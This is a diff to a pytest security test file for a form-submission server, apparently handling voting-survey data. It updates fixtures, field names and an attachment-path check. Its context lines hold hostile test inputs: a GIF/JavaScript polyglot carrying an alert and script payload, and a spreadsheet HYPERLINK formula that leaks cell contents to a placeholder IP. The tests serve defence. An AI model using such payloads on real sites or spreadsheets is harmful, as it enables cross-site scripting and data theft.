@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import contextlib
+import re
 import socket
 from collections.abc import Iterator
 from pathlib import Path
@@ -21,7 +22,8 @@ POLYGLOT = b"GIF89a/*" + bytes(40) + b"*/=1;alert(document.domain)//<script>aler
 
 
 @pytest.fixture
-def server(field: Field, tmp_path: Path) -> Iterator[Server]:
+def server(field: Field, tmp_path: Path, settings) -> Iterator[Server]:
+    settings.CONTENT_KEYS, settings.ATTACHMENTS = tmp_path / "content-keys", tmp_path / "attachments"
     with Server(tmp_path, database_url()) as started:
         yield started
 
@@ -65,7 +67,7 @@ def test_xml_that_means_harm_is_refused_with_code_and_sentence(port: int, field:
 def test_a_form_in_another_encoding_that_says_so_is_read(port: int, field: Field, encoding: str) -> None:
     text = filled("uuid:1", V5="урна").decode().replace("UTF-8", encoding)
     assert send(port, field, text.encode(encoding)).status == 201
-    assert Submission.objects.get().answers["voting/premises/V5"] == "урна"
+    assert Submission.objects.get().all_answers["voting/premises/V5"] == "урна"
 
 
 def test_names_are_labels_and_never_paths(server: Server, field: Field) -> None:
@@ -84,9 +86,9 @@ def test_names_are_labels_and_never_paths(server: Server, field: Field) -> None:
     assert len(stored) == len(names)
     assert not [one for one in stored if "/" in one.name or "\\" in one.name or "\x00" in one.name]
     folder = server.home / "attachments"
-    assert {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()} == {
-        f"{one.sha256[:2]}/{one.sha256}" for one in stored
-    }
+    lying = {path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file()}
+    assert lying == {one.path for one in stored}
+    assert {path for path in lying if not re.fullmatch("[0-9a-f]{2}/[0-9a-f]{32}", path)} == set()
 
 
 def test_a_picture_that_is_a_programme_too_is_kept_as_bytes_under_what_its_first_bytes_say(
@@ -100,7 +102,7 @@ def test_a_picture_that_is_a_programme_too_is_kept_as_bytes_under_what_its_first
 def test_a_formula_is_an_answer_like_any_other_and_stays_as_it_came(port: int, field: Field) -> None:
     text = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
     assert send(port, field, filled("uuid:1", V5=text)).status == 201
-    assert Submission.objects.get().answers["voting/premises/V5"] == text
+    assert Submission.objects.get().all_answers["voting/premises/V5"] == text
 
 
 def test_tokens_of_other_missions_get_nowhere_and_no_secret_is_logged(server: Server, field: Field) -> None:
